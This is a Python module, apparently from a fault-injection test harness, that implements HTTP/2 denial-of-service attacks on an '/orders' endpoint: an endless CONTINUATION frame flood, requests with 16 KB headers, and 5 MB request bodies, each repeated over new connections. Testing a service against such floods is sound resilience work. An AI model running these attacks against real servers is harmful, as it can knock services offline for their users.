"""Attacks with more than a request may have: headers without end, large headers, large bodies."""

from __future__ import annotations

from collections.abc import Callable

from faults.attacks import frames
from faults.attacks.frames import CONTINUATION, HEADERS, Connection, frame
from faults.attacks.target import Counts, Target

FRAMES_AT_ONCE = 50
HEADER_BYTES = 16 * 1024
BODY_BYTES = 5 * 1024 * 1024
ANSWER_SECONDS = 1.0


def continuation_flood(target: Target) -> Counts:
    """Begin the headers of a request, and go on with CONTINUATION frames that never end."""

    def send(connection: Connection) -> int:
        stream = connection.next_stream()
        connection.send(frame(HEADERS, 0, stream, frames.header_block(frames.get("/orders"))))
        sent = 0
        while target.left and not connection.closed:
            block = frames.header_block([(f"x-{sent}-{number}", "x" * 100) for number in range(FRAMES_AT_ONCE)])
            connection.send(frame(CONTINUATION, 0, stream, block))
            sent += 1
            while connection.read(0.0):
                pass
        return sent

    return repeated(target, send, "continuations")


def large_headers(target: Target) -> Counts:
    """Send requests with 16 KB of metadata."""

    def send(connection: Connection) -> int:
        sent = 0
        while target.left and not connection.closed:
            connection.request(frames.get("/orders", ("x-large", "x" * HEADER_BYTES)))
            sent += 1
            connection.read(ANSWER_SECONDS, grant=True)
        return sent

    return repeated(target, send, "requests")


def large_bodies(target: Target) -> Counts:
    """Send orders with bodies of 5 MB."""
    body = b'{"customerId":"' + b"x" * BODY_BYTES + b'"}'

    def send(connection: Connection) -> int:
        sent = 0
        while target.left and not connection.closed:
            stream = connection.request(frames.post("/orders"), end=False)
            connection.body(stream, body, seconds=ANSWER_SECONDS)
            sent += 1
        return sent

    return repeated(target, send, "requests")


def repeated(target: Target, send: Callable[[Connection], int], what: str) -> Counts:
    """Send over one connection after the other, each until the server closes it."""
    connections = sent = 0
    while target.left:
        try:
            connection = Connection.open(target.front, target.source)
        except OSError:
            continue
        connections += 1
        sent += send(connection)
        connection.close()
    return {"connections": connections, what: sent}
